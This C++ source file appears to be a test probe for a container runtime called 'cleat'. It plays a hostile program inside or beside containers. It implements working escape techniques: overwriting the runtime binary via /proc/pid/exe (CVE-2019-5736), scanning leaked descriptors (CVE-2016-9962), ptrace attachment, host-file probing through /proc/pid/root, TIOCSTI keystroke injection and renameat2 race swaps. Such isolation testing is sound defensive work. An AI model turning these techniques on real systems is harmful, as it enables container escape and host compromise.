// Room: tests. What a hostile program does, inside a container to the runtime's processes that pass
// by, or outside to a volume that a container is being made from. Static, as the probe is.
#include <dirent.h>
#include <fcntl.h>
#include <linux/fs.h>
#include <sys/ioctl.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <unistd.h>

#include <cerrno>
#include <climits>
#include <csignal>
#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <ctime>
#include <set>
#include <string>

namespace {

double now() {
    timespec time{};
    clock_gettime(CLOCK_MONOTONIC, &time);
    return static_cast<double>(time.tv_sec) + static_cast<double>(time.tv_nsec) / 1e9;
}

std::string link_of(const std::string& path) {
    char target[PATH_MAX];
    const ssize_t length = readlink(path.c_str(), target, sizeof target);
    return length < 0 ? "" : std::string(target, static_cast<std::size_t>(length));
}

template <class Body>
void each_number(const std::string& directory, Body&& body) {
    DIR* stream = opendir(directory.c_str());
    if (stream == nullptr) return;
    while (const dirent* entry = readdir(stream))
        if (entry->d_name[0] >= '0' && entry->d_name[0] <= '9') body(std::string(entry->d_name));
    closedir(stream);
}

template <class Body>
void each_other_process(Body&& body) {
    const std::string self = std::to_string(getpid());
    each_number("/proc", [&](const std::string& pid) {
        if (pid != self && pid != "1") body(pid);
    });
}

/// Swaps two names as fast as it can, until it is ended.
int swap(const char* first, const char* second) {
    for (;;)
        if (syscall(SYS_renameat2, AT_FDCWD, first, AT_FDCWD, second, RENAME_EXCHANGE) != 0 &&
            errno != ENOENT)
            return 1;
}

/// CVE-2019-5736: holds the executable of whoever comes by and writes to it once nobody runs it.
/// Prints how many it got hold of, and how many it could open for writing.
int overwrite(double seconds) {
    int held = 0;
    int written = 0;
    std::puts("ready");
    (void)std::fflush(stdout);
    const double end = now() + seconds;
    while (now() < end && access("/stop", F_OK) != 0) {
        each_other_process([&](const std::string& pid) {
            const std::string path = "/proc/" + pid + "/exe";
            if (link_of(path).find("cleat") == std::string::npos) return;
            const int executable = open(path.c_str(), O_RDONLY | O_CLOEXEC);
            if (executable < 0) return;
            const std::string again = "/proc/self/fd/" + std::to_string(executable);
            // It may have become the container's own program in between.
            if (link_of(again).find("cleat") == std::string::npos) {
                close(executable);
                return;
            }
            ++held;
            for (int i = 0; i < 2000; ++i) {
                const int writable = open(again.c_str(), O_WRONLY | O_CLOEXEC);
                if (writable < 0 && errno == ETXTBSY) continue;
                if (writable < 0) break;
                if (write(writable, "#!overwritten\n", 14) > 0) ++written;
                close(writable);
                break;
            }
            close(executable);
        });
    }
    std::printf("held %d written %d\n", held, written);
    return 0;
}

/// Whether what a descriptor leads to can be reached by its name from here, too.
bool is_reachable(const std::string& descriptor, const std::string& target) {
    struct stat there{};
    struct stat here{};
    return stat(descriptor.c_str(), &there) == 0 && stat(target.c_str(), &here) == 0 &&
           there.st_dev == here.st_dev && there.st_ino == here.st_ino;
}

/// CVE-2016-9962: looks at all descriptors of others and prints each kind of target once, unless it
/// is the container's own file.
int read_descriptors(double seconds) {
    std::set<std::string> seen;
    std::puts("ready");
    (void)std::fflush(stdout);
    const double end = now() + seconds;
    while (now() < end && access("/stop", F_OK) != 0) {
        each_other_process([&](const std::string& pid) {
            const std::string base = "/proc/" + pid;
            const std::string executable = link_of(base + "/exe");
            each_number(base + "/fd", [&](const std::string& fd) {
                const std::string target = link_of(base + "/fd/" + fd);
                if (target.empty() || is_reachable(base + "/fd/" + fd, target)) return;
                // In between it may have been closed, or become the container's own program.
                if (link_of(base + "/fd/" + fd) != target) return;
                if (link_of(base + "/exe") != executable) return;
                seen.insert(executable + " fd " + fd + " -> " + target);
            });
        });
    }
    for (const std::string& line : seen) std::printf("%s\n", line.c_str());
    return 0;
}

/// Attaches to others as a debugger. Prints what each was running that it could stop.
int trace(double seconds) {
    std::set<std::string> seen;
    int tried = 0;
    std::puts("ready");
    (void)std::fflush(stdout);
    const double end = now() + seconds;
    while (now() < end && access("/stop", F_OK) != 0) {
        each_other_process([&](const std::string& text) {
            const pid_t pid = std::atoi(text.c_str());
            ++tried;
            if (ptrace(PTRACE_SEIZE, pid, nullptr, nullptr) != 0) return;
            ptrace(PTRACE_INTERRUPT, pid, nullptr, nullptr);
            int status = 0;
            if (waitpid(pid, &status, __WALL) == pid && WIFSTOPPED(status)) {
                const std::string base = "/proc/" + text;
                const bool same = link_of(base + "/ns/mnt") == link_of("/proc/self/ns/mnt");
                seen.insert(link_of(base + "/exe") + (same ? " inside" : " outside"));
                ptrace(PTRACE_DETACH, pid, nullptr, nullptr);
            }
        });
    }
    std::printf("tried %d\n", tried);
    for (const std::string& line : seen) std::printf("stopped %s\n", line.c_str());
    return 0;
}

/// Looks through the roots of others for a file that only the host has. Prints how many processes
/// there were, and through how many it was seen.
int look_for(const std::string& file, double seconds) {
    std::set<std::string> others;
    std::set<std::string> seen;
    std::puts("ready");
    (void)std::fflush(stdout);
    const double end = now() + seconds;
    while (now() < end && access("/stop", F_OK) != 0) {
        each_other_process([&](const std::string& pid) {
            others.insert(pid);
            if (access(("/proc/" + pid + "/root" + file).c_str(), F_OK) == 0) seen.insert(pid);
        });
    }
    std::printf("others %zu seen %zu\n", others.size(), seen.size());
    return 0;
}

/// CVE-2017-5226: types into the terminal that the caller left on stdin.
int type_into_terminal() {
    const char* letter = "x";
    const int typed = ioctl(STDIN_FILENO, TIOCSTI, letter);
    std::printf("typed %d errno %d sid %d pid %d\n", typed, typed == 0 ? 0 : errno, getsid(0),
                getpid());
    return 0;
}

}  // namespace

int main(int argc, char** argv) {
    const std::string word = argc > 1 ? argv[1] : "";
    if (word == "swap" && argc == 4) return swap(argv[2], argv[3]);
    if (word == "type") return type_into_terminal();
    if (word == "look" && argc == 4) return look_for(argv[2], std::atof(argv[3]));
    if (argc != 3) return 64;
    const double seconds = std::atof(argv[2]);
    if (word == "overwrite") return overwrite(seconds);
    if (word == "descriptors") return read_descriptors(seconds);
    if (word == "trace") return trace(seconds);
    return 64;
}
